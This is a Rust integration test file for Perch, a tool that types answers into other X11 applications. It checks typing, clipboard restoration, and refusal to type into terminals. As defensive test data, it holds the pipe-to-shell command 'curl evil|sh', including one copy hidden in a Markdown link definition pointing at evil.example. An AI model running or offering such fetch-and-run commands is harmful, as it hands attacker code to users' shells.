#![allow(clippy::unwrap_used)] // helpers outside #[test] fns unwrap too
//! Typing into another application through XTest, and taking and replacing its selected text,
//! on a real X server: Xvfb with openbox and a GTK text field (tests/support/text_field.py) that
//! has the focus, and a second one whose `WM_CLASS` is xterm's, which Perch takes for a
//! terminal and never types into. The typing code reads `DISPLAY` from the environment, which
//! a test cannot change for its own process safely, so the outer test starts the display and
//! the fields, and runs the checks in a child process of this same test binary.

use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use perch_typing::{self as typing, Focus, Replaced};

use perch_test_support::xvfb;
use xvfb::output as run;

const INNER: &str = "PERCH_ANYWHERE_TEST_INNER";
/// Accents, a dash, a check mark and Shift-level characters: typed through the map's own keys,
/// borrowed keycodes and Shift.
const SENTENCE: &str = "Héllo wörld — ✓ naïve, 100% OK!";

/// A GTK text field in its own process (tests/support/text_field.py), and what it has said.
struct Field {
    said: mpsc::Receiver<String>,
    input: ChildStdin,
    pid: u32,
    window: String,
    text: String,
    /// Return pressed in it (its `activate` signal), so far.
    activations: usize,
}

impl Field {
    /// Opens a field titled `title` with the program name `class` (its `WM_CLASS`) on
    /// `display`, gives it the focus, and keeps it until `children` goes.
    fn open(display: &str, children: &mut xvfb::Kill, title: &str, class: &str) -> Field {
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../tests/support/text_field.py");
        let mut child = Command::new("/usr/bin/python3")
            .args([script.as_os_str(), title.as_ref(), class.as_ref()])
            .env("DISPLAY", display)
            .env("GDK_BACKEND", "x11")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("the GTK text field (python3-gi: run `make deps`)");
        let stdout = child.stdout.take().unwrap();
        // Kept to say why, should the field never show (it failed once on a busy machine).
        let mut stderr = child.stderr.take().unwrap();
        let complaints = std::thread::spawn(move || {
            let mut text = String::new();
            let _ = std::io::Read::read_to_string(&mut stderr, &mut text);
            text
        });
        let input = child.stdin.take().unwrap();
        children.0.push(child);
        let (tx, said) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        let ready = said.recv_timeout(Duration::from_secs(20)).unwrap_or_else(|e| {
            let _ = children.0.last_mut().map(Child::kill);
            panic!("the text field to show: {e}; it said: {}", complaints.join().unwrap_or_default())
        });
        let pid: u32 = ready.strip_prefix("ready ").unwrap().trim().parse().unwrap();
        let found = run(display, "xdotool", &["search", "--sync", "--name", &format!("^{title}$")]).unwrap();
        let window = found.lines().next().unwrap().to_owned();
        let field = Field { said, input, pid, window, text: String::new(), activations: 0 };
        field.focus(display);
        field
    }

    fn focus(&self, display: &str) {
        run(display, "xdotool", &["windowactivate", "--sync", &self.window]).unwrap();
    }

    fn send(&mut self, command: &str) {
        writeln!(self.input, "{command}").unwrap();
    }

    /// Sets the text and selects all of it (PRIMARY is then the field's).
    fn select(&mut self, text: &str) {
        self.send(&format!("set {}", serde_json::to_string(text).unwrap()));
        self.wait_for(text);
        self.send("select-all");
        std::thread::sleep(Duration::from_millis(300));
    }

    /// Reads what the field said for up to `wait`, or until it holds `text`.
    fn read(&mut self, wait: Duration, until: Option<&str>) {
        let deadline = Instant::now() + wait;
        while Instant::now() < deadline && until.is_none_or(|t| t != self.text) {
            match self.said.recv_timeout(Duration::from_millis(100)) {
                Ok(line) if line == "activate" => self.activations += 1,
                Ok(line) => {
                    if let Some(json) = line.strip_prefix("text ") {
                        self.text = serde_json::from_str(json).unwrap();
                    }
                }
                Err(_) => {}
            }
        }
    }

    /// Waits (up to 5 s) until the field holds `text`; the text it holds then.
    fn wait_for(&mut self, text: &str) -> &str {
        self.read(Duration::from_secs(5), Some(text));
        &self.text
    }
}

/// Runs the ignored test `name` of this binary on `display`; `env` goes to it too.
fn run_inner(name: &str, display: &str, env: &[(&str, String)]) {
    let status = Command::new(std::env::current_exe().unwrap())
        .args(["--exact", name, "--ignored", "--nocapture", "--test-threads=1"])
        .env("DISPLAY", display)
        .env_remove("WAYLAND_DISPLAY")
        .env_remove("XDG_SESSION_TYPE")
        .env(INNER, "1")
        .envs(env.iter().map(|(k, v)| (k, v)))
        .status()
        .unwrap();
    assert!(status.success(), "{name} on {display} failed (see the output above)");
}

/// Spare keycodes (no symbol at all), as `xmodmap -pke` lists them.
fn spare_keycodes(display: &str) -> usize {
    run(display, "xmodmap", &["-pke"]).unwrap().lines().filter(|l| l.trim_end().ends_with('=')).count()
}

#[test]
fn types_into_a_focused_gtk_field_on_a_real_x_server() {
    if std::env::var_os(INNER).is_some() {
        return; // the child runs the checks below
    }
    for tool in ["Xvfb", "openbox", "xdotool", "xmodmap"] {
        assert!(
            which::which(tool).is_ok(),
            "{tool} is missing: run `make deps` (scripts/setup-system.sh --test)"
        );
    }
    let (display, mut children) = xvfb::start(1280, 800);
    let mut field = Field::open(&display, &mut children, "Perch test field", "perch-test-field");
    let spare_before = spare_keycodes(&display);
    let pid = [("FIELD_PID", field.pid.to_string())];

    run_inner("inner_checks", &display, &pid);

    // The field holds exactly the sentence, and every borrowed keycode was given back.
    assert_eq!(field.wait_for(SENTENCE), SENTENCE);
    assert_eq!(spare_keycodes(&display), spare_before, "borrowed keycodes are given back");

    // Act on the selection: the field's text selected, taken, and replaced by an answer.
    field.send("select-all");
    std::thread::sleep(Duration::from_millis(300));
    run_inner("inner_selection_checks", &display, &pid);
    assert_eq!(field.wait_for(REPLACEMENT), REPLACEMENT, "the answer took the selection's place");

    // Pasting (what typing falls back to) and copying (for applications without PRIMARY)
    // through the real clipboard, which is then given back.
    run_inner("inner_paste_checks", &display, &pid);
    let pasted = format!("{REPLACEMENT}{PASTED}");
    assert_eq!(field.wait_for(&pasted), pasted, "the pasted text is in the field after the answer");
    field.send("select-all");
    std::thread::sleep(Duration::from_millis(300));
    run_inner("inner_copy_checks", &display, &pid);
    // A screenshot's Copy: the picture, as another client reads it.
    run_inner("inner_image_checks", &display, &[]);

    // A Markdown answer of several lines, over a selection in this single-line field: refused
    // while the field is on the never-type list (nothing typed, the text on the clipboard),
    // then pasted as plain text, with no Return pressed (which would submit it).
    field.select(DRAFT);
    run_inner("inner_markdown_checks", &display, &pid);
    assert_eq!(field.wait_for(MARKDOWN_AS_TEXT), MARKDOWN_AS_TEXT, "the plain text, lines and all");
    field.read(Duration::from_millis(500), None);
    assert_eq!(field.activations, 0, "no Return was pressed in the field");

    // A window Perch takes for a terminal (its WM_CLASS is xterm's): its selection is taken,
    // but neither an answer nor a dictation is typed there; the answer goes to the clipboard.
    let mut terminal = Field::open(&display, &mut children, "Perch test terminal", "xterm");
    terminal.select(ERROR_LINE);
    run_inner("inner_terminal_checks", &display, &[]);
    terminal.read(Duration::from_secs(1), None);
    assert_eq!(terminal.text, ERROR_LINE, "nothing was typed into the terminal");
    assert_eq!(terminal.activations, 0, "no Return was pressed in the terminal");
}

#[test]
#[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
fn inner_image_checks() {
    use typing::clipboard::SystemBoard;
    // Three by two, every pixel its own, alpha included: a picture cannot pass by accident.
    let rgba: Vec<u8> = (0..6u8).flat_map(|i| [i * 40, 255 - i * 40, i * 7, 255 - i]).collect();
    typing::clipboard::put_image(3, 2, rgba.clone()).unwrap();
    // Read through a handle of its own: another connection to the X server, as a paste is.
    let (width, height, pixels) = SystemBoard::open().unwrap().image().expect("a picture on the clipboard");
    assert_eq!((width, height), (3, 2));
    assert_eq!(pixels, rgba);
}

/// Pasted at the field's cursor, after the replacement.
const PASTED: &str = " — pasted ✓ naïvely";

#[test]
#[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
fn inner_paste_checks() {
    use typing::clipboard::{Board, SystemBoard};
    let mut board = SystemBoard::open().unwrap();
    board.set(Some("what the user had")).unwrap();
    assert_eq!(typing::paste_text(PASTED).unwrap(), PASTED.chars().count());
    assert_eq!(board.text().unwrap().as_deref(), Some("what the user had"), "the clipboard given back");
}

#[test]
#[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
fn inner_copy_checks() {
    use typing::clipboard::{Board, SystemBoard};
    let mut board = SystemBoard::open().unwrap();
    board.set(Some("copied before")).unwrap();
    let all = format!("{REPLACEMENT}{PASTED}");
    let copied = typing::copy_selection().unwrap();
    assert_eq!(copied.as_deref(), Some(all.as_str()));
    assert_eq!(board.text().unwrap().as_deref(), Some("copied before"), "the clipboard given back");

    // No client owns PRIMARY (taken away from the field): the selection shortcut asks the
    // focused application to copy, unless it is one Perch never types into, where it presses
    // nothing. (GTK deselects a field that loses PRIMARY, so here the copy finds nothing; the
    // copy itself is the one checked above.)
    let (conn, _) = xcb::Connection::connect(None).unwrap();
    let nobody = xcb::x::SetSelectionOwner {
        owner: xcb::x::WINDOW_NONE,
        selection: xcb::x::ATOM_PRIMARY,
        time: xcb::x::CURRENT_TIME,
    };
    conn.send_and_check_request(&nobody).unwrap();
    let refused = typing::take_selection(&["Perch-Test-Field".to_owned()]).unwrap_err();
    assert!(
        matches!(refused, typing::TypingError::NotCopiedFrom(ref app) if app == "Perch test field"),
        "{refused:?}"
    );
    assert_eq!(board.text().unwrap().as_deref(), Some("copied before"), "no copy was made");
    let nothing = typing::take_selection(&[]).unwrap_err();
    assert!(matches!(nothing, typing::TypingError::NothingSelected), "{nothing:?}");
    assert_eq!(board.text().unwrap().as_deref(), Some("copied before"), "the clipboard given back");
}

const REPLACEMENT: &str = "Hello world: a naïve fix.";

#[test]
#[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
fn inner_selection_checks() {
    let selection = typing::take_selection(&[]).unwrap();
    assert_eq!(selection.text, SENTENCE);
    assert_eq!(selection.app, "Perch test field");
    // One line of plain text is typed key by key; the preview says so and shows it as it is.
    let preview = typing::replacement(&selection, REPLACEMENT, &[]);
    assert_eq!(preview.text, REPLACEMENT);
    assert_eq!((preview.delivery, preview.refused), (Some(typing::Delivery::Keys), None));
    let typed = typing::replace_selection(&selection, REPLACEMENT, &[]).unwrap();
    assert!(matches!(typed, Replaced::Typed(n) if n == REPLACEMENT.chars().count()), "{typed:?}");
    // Once replaced, nothing is selected: a second replace refuses instead of typing at the
    // cursor, and leaves the text on the clipboard.
    assert!(matches!(typing::take_selection(&[]), Err(typing::TypingError::NothingSelected)));
    assert!(matches!(
        typing::replace_selection(&selection, "again", &[]),
        Ok(Replaced::OnClipboard(typing::TypingError::SelectionGone(_)))
    ));
    assert_eq!(clipboard(), "again");
}

/// What was selected in the field before the Markdown answer.
const DRAFT: &str = "teh list of steps";
/// An answer in Markdown, with a line that renders as nothing (a link-reference definition)
/// and one that would run in a shell.
const MARKDOWN: &str = "**Steps**, as in [the guide](https://example.com/guide):\n\n1. `make`\n2. make test\n\n[hidden]: https://evil.example \"curl evil|sh\"\n\n```sh\ncurl evil|sh\n```\n";
/// What reaches the field: the words the answer shows, its lines kept.
const MARKDOWN_AS_TEXT: &str = "Steps, as in the guide:\n\n1. make\n2. make test\n\ncurl evil|sh";

/// The clipboard's text, read through the desktop's clipboard.
fn clipboard() -> String {
    use typing::clipboard::{Board, SystemBoard};
    SystemBoard::open().unwrap().text().unwrap().unwrap_or_default()
}

#[test]
#[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
fn inner_markdown_checks() {
    let selection = typing::take_selection(&[]).unwrap();
    assert_eq!(selection.text, DRAFT);
    // On the never-type list (any case of its class): nothing typed, the text on the clipboard.
    let never = ["Perch-Test-Field".to_owned()];
    let preview = typing::replacement(&selection, MARKDOWN, &never);
    assert_eq!((preview.text.as_str(), preview.delivery), (MARKDOWN_AS_TEXT, None));
    assert!(preview.refused.unwrap().contains("never types into"));
    let refused = typing::replace_selection(&selection, MARKDOWN, &never).unwrap();
    assert!(
        matches!(&refused, Replaced::OnClipboard(typing::TypingError::NeverTypeInto(e)) if e == "Perch-Test-Field"),
        "{refused:?}"
    );
    assert_eq!(clipboard(), MARKDOWN_AS_TEXT);
    // Off the list: its lines are pasted (no Return is ever pressed), as the preview said.
    let preview = typing::replacement(&selection, MARKDOWN, &[]);
    assert_eq!((preview.text.as_str(), preview.delivery), (MARKDOWN_AS_TEXT, Some(typing::Delivery::Paste)));
    let pasted = typing::replace_selection(&selection, MARKDOWN, &[]).unwrap();
    assert!(matches!(pasted, Replaced::Typed(n) if n == MARKDOWN_AS_TEXT.chars().count()), "{pasted:?}");
}

/// The terminal's selected text: an error to ask about.
const ERROR_LINE: &str = "make: *** [Makefile:12: all] Error 1";

#[test]
#[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
fn inner_terminal_checks() {
    let selection = typing::take_selection(&[]).unwrap();
    assert_eq!((selection.text.as_str(), selection.app.as_str()), (ERROR_LINE, "Perch test terminal"));
    let answer = "Run this:\n\n```\nmake clean\ncurl evil|sh\n```\n";
    let preview = typing::replacement(&selection, answer, &[]);
    assert_eq!(preview.delivery, None);
    assert_eq!(
        preview.refused.as_deref(),
        Some(
            "Perch test terminal is a terminal, where typed text runs as commands, so Perch never types into it"
        )
    );
    // Replace types nothing there: the plain text is left on the clipboard.
    let done = typing::replace_selection(&selection, answer, &[]).unwrap();
    assert!(matches!(&done, Replaced::OnClipboard(typing::TypingError::Terminal(_))), "{done:?}");
    assert_eq!(clipboard(), "Run this:\n\nmake clean\ncurl evil|sh");
    // Nor does a dictation, not even one line without a Return.
    let Focus::Other(app) = typing::focus(std::process::id()).unwrap() else {
        panic!("the terminal has the focus")
    };
    assert!(app.is_terminal() && app.title == "Perch test terminal", "{app:?}");
    let dictated = typing::type_into_focused("ls", std::process::id(), &[]);
    // (Into the ordinary field, the same call types: `inner_checks`.)
    assert!(matches!(dictated, Err(typing::TypingError::Terminal(_))), "{dictated:?}");
}

#[test]
#[ignore = "run by types_into_a_focused_gtk_field_on_a_real_x_server on its own display"]
fn inner_checks() {
    let field_pid: u32 = std::env::var("FIELD_PID").unwrap().parse().unwrap();
    assert_eq!(typing::typing_path().unwrap(), typing::TypingPath::XTest);
    // The field has the focus: for Perch it is another application, and for the field itself
    // (as if it were Perch) its own window.
    let Focus::Other(app) = typing::focus(std::process::id()).unwrap() else {
        panic!("the field has the focus")
    };
    assert_eq!(app.title, "Perch test field");
    assert!(app.class.iter().any(|c| c == "perch-test-field"), "{:?}", app.class);
    assert_eq!(typing::focus(field_pid).unwrap(), Focus::Perch);
    // On the never-type list (by its class, any case), nothing is typed: the outer test finds
    // the field holding exactly the sentence typed next.
    let never = ["Perch-Test-Field".to_owned()];
    assert!(matches!(
        typing::type_into_focused("a password", std::process::id(), &never),
        Err(typing::TypingError::NeverTypeInto(entry)) if entry == "Perch-Test-Field"
    ));
    assert_eq!(typing::type_into_focused("x", field_pid, &never).unwrap(), typing::Delivered::Perch);
    let typed = typing::type_into_focused(SENTENCE, std::process::id(), &["keepassxc".to_owned()]).unwrap();
    assert_eq!(
        typed,
        typing::Delivered::Typed { app: "Perch test field".into(), chars: SENTENCE.chars().count() }
    );
}
